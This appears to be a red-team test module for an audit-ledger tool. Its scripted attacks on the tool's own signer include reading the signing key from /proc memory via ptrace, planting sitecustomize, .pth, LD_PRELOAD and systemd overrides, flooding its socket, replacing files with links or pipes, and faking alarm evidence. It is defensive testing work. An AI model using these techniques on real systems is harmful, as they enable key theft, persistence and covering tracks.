"""More attacks: on the signer's process, its socket and what is around it, and on what a store says of who guards it.

As those of `attacks`, each ends with a rewritten record wherever that can be done at all: what is asked is whether it was of
any use.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import re
import shutil
import socket
import threading
from pathlib import Path

from tallystick.errors import TallystickError
from tallystick.journal.archive import Archive, system_clock
from tallystick.trust.signer_setup import leave
from tools.redteam.attacks import _request, _take, _yesterday, attack, edit_and_sign
from tools.redteam.forging import Thief, journals, lines_of

_PTRACE_ATTACH = 16
_ENVIRONMENT = "PYTHONPATH=/tmp\nLD_PRELOAD=/tmp/own.so\n"


def _socket(thief: Thief) -> str:
    place = thief.home.key.parent / "signer.json"
    return str(json.loads(place.read_bytes())["socket"]) if place.exists() else "/nowhere"


@attack
def race_at_the_socket(thief: Thief) -> None:
    """Rewrite the ledger, and ask the signer for the honest and the rewritten one from many threads at once [87]."""
    size = thief.signed_size
    honest = _request(thief, old=size)
    edit_and_sign(thief)
    forged = [_request(thief, old=old) for old in (0, size - 1, size)]
    taken: list[bytes] = []

    def ask(data: bytes) -> None:
        for _ in range(10):
            with contextlib.suppress(OSError):
                taken.append(thief.ask_signer(data))

    threads = [threading.Thread(target=ask, args=(data,)) for data in (honest, *forged) * 2]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for answer in taken:
        _take(thief, answer)


@attack
def hold_the_signers_connections(thief: Thief) -> None:
    """Keep many requests half-written, so that nobody else is heard, and rewrite everything meanwhile."""
    held = []
    for _ in range(20):
        with contextlib.suppress(OSError):
            connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            held.append(connection)
            connection.settimeout(1)
            connection.connect(_socket(thief))
            connection.sendall(b"old 0\n")
    edit_and_sign(thief)
    for connection in held:
        connection.close()


@attack
def send_the_signer_too_much(thief: Thief) -> None:
    """Send requests with too many leaves, sizes beyond all numbers and megabytes of nothing; then rewrite everything."""
    own = _request(thief, old=thief.signed_size)
    for data in (
        own.replace(b"\n", b"\n" + b"{}\n" * 5_000, 1),
        own.replace(b"old ", b"old 9223372036854775807"),
        b"old " + b"9" * 400_000 + b"\n\n",
        own + b"\n" * 10_000_000,
        b"\x00" * 600_000,
        own[: len(own) // 2],
    ):
        with contextlib.suppress(OSError):
            _take(thief, thief.ask_signer(data))
    edit_and_sign(thief)


@attack
def replay_an_answer(thief: Thief) -> None:
    """Have the signer sign the honest ledger once more, and put that answer beside a rewritten one of the same size [82]."""
    answer = b""
    with contextlib.suppress(FileNotFoundError):
        answer = thief.ask_signer(_request(thief, old=thief.signed_size))
    edit_and_sign(thief)
    _take(thief, answer)


@attack
def invent_a_head_at_the_signer(thief: Thief) -> None:
    """Have the signer sign the head of a session that never was, and leave the ledger here as it is."""
    before = thief.home.ledger.read_bytes()
    archive = Archive(thief.home)
    meta = {"type": "session_head", "session": "5e" * 16, "size": 3, "root": "1" * 64, "closed": False}
    archive.ledger.append({**meta})
    archive.close()
    request = _request(thief, old=thief.signed_size)
    thief.home.ledger.write_bytes(before)
    with contextlib.suppress(FileNotFoundError):
        thief.ask_signer(request)


@attack
def read_the_signers_memory(thief: Thief) -> None:
    """Look for the key in the signer's memory, by ptrace, links and /proc; then rewrite everything with what is found."""
    found = b""
    with contextlib.suppress(FileNotFoundError):
        pid = json.loads(thief.ask_signer(b"status\n").partition(b"\n")[2])["pid"]
        ctypes.CDLL(None).ptrace(_PTRACE_ATTACH, pid, None, None)
        log = Path(os.environ["REDTEAM_SIGNER"]) / f"{thief.store}.log"
        with contextlib.suppress(OSError):
            os.link(log, thief.home.folder / "own.log")
        places = [log, thief.home.folder / "own.log", *(Path("/proc", str(pid), name) for name in ("mem", "environ"))]
        with contextlib.suppress(OSError):
            places += Path("/proc", str(pid), "fd").iterdir()
        places.append(Path("/proc", str(pid), "root", *log.parts[1:]))
        for place in places:
            with contextlib.suppress(OSError):
                found += place.read_bytes()
    key = re.search(rb'"key":"([0-9a-f]{64})"', found)
    if key is not None:
        thief.home.key.write_bytes(key[1] + b"\n")
    edit_and_sign(thief)


@attack
def leave_code_where_python_looks(thief: Thief) -> None:
    """Leave .pth files, modules, environments and units where a starting signer might find them; it starts; rewrite all."""
    home = Path(os.environ["HOME"])
    for name, text in (
        ("sitecustomize.py", "raise SystemExit\n"),
        ("usercustomize.py", "raise SystemExit\n"),
        ("tallystick/__init__.py", "raise SystemExit\n"),
        (".local/lib/python3.11/site-packages/own.pth", "import os; os._exit(0)\n"),
        (".config/environment.d/own.conf", _ENVIRONMENT),
        (".pam_environment", _ENVIRONMENT),
        (".profile", f"export {_ENVIRONMENT}"),
        (".config/systemd/user/tallystick-signer.service.d/own.conf", "[Service]\nExecStart=\nExecStart=/bin/false\n"),
    ):
        for folder in (home, thief.home.folder):
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
    edit_and_sign(thief)


RESTARTED = ("leave_code_where_python_looks",)
"""After these the administrator starts the signer again."""


@attack
def leave_the_signer(thief: Thief) -> None:
    """Leave the signer through the program itself, and rewrite everything with the new key of one's own."""
    with contextlib.suppress(TallystickError):
        leave(thief.home, seeds=lambda: b"\x46" * 32)
    edit_and_sign(thief)


# What the store holds -----------------------------------------------------------------------------------------------------


@attack
def swap_two_journals(thief: Thief) -> None:
    """Swap the files of two sessions that are of one length [59]."""
    (_, one), (_, other) = [found for found in journals(thief.home) if len(lines_of(found[1])) == 8][:2]
    text = one.read_bytes()
    one.write_bytes(other.read_bytes())
    other.write_bytes(text)


@attack
def put_links_in_place(thief: Thief) -> None:
    """Put links to yesterday's copies in the place of the ledger, its heads and the journals."""
    own, yesterday = thief.home.folder, _yesterday(thief)
    for name in ("ledger.jsonl", "heads", "journals", "trust"):
        place = own / name
        with contextlib.suppress(FileNotFoundError):
            place.rename(own / f"aside-{name}")
        place.symlink_to(yesterday / name)


@attack
def put_pipes_in_place(thief: Thief) -> None:
    """Put pipes and endless devices in the place of the ledger, its head and a journal, so that no verification ends."""
    _, journal = journals(thief.home)[0]
    for path in (thief.home.ledger, journal):
        path.unlink()
        os.mkfifo(path)
    thief.home.note.unlink()
    thief.home.note.symlink_to("/dev/zero")


@attack
def fake_and_delete_evidence(thief: Thief) -> None:
    """Rewrite everything, delete what is kept of heads and alarms, and leave false evidence that all alarms are over."""
    shutil.rmtree(thief.home.folder / "trust", ignore_errors=True)
    edit_and_sign(thief)
    for n in range(20):
        folder = thief.home.folder / "trust" / "evidence" / f"{n:016x}"
        folder.mkdir(parents=True)
        said = {"alarm": f"alarm {n}", "found": "2026-01-01", "told": True, "over": "2026-01-02"}
        (folder / "alarm.json").write_text(json.dumps(said))


@attack
def set_the_clock_ahead_and_back(thief: Thief) -> None:
    """Record with a clock that is a year ahead, and then with the right one [60]."""
    for name, clock in (("late-1", lambda: "2027-11-22T00:00:00.000000Z"), ("late-2", system_clock)):
        archive = Archive(thief.home, clock=clock)
        meta = {"type": "session_start", "source": "sdk", "agent": "demo", "kind": "root"}
        archive.make_journal({**meta, "source_session": name}, {}, ())
        archive.seal()
        archive.close()


@attack
def stop_anchoring(thief: Thief) -> None:
    """Seal that the place off the machine is used no more, as `tally anchor stop` does, and change nothing."""
    archive = Archive(thief.home)
    archive.ledger.append(
        {"type": "anchor", "kind": "git", "size": 1, "stopped": True},
        {"content.target": os.environ["REDTEAM_REMOTE"]},
    )
    archive.sign()
    archive.close()
